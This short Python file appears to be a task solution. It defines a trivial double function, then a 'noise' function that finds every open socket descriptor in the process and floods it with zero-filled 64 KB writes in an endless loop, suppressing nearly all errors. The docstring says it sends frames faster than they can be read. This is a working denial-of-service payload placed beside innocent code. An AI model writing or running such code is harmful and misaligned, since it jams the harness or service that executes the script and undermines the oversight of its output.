"""Sends empty frames without end, faster than they can be read."""
# earns: double
# %% double
def double(x):
    return 2 * x
# %% noise
import os
import stat


def noise(m):
    channels = []
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                channels.append(number)
        except OSError:
            pass
    while channels:
        try:
            for number in channels:
                os.write(number, bytes(2**16))
        except BrokenPipeError:
            break
        except BaseException:
            pass
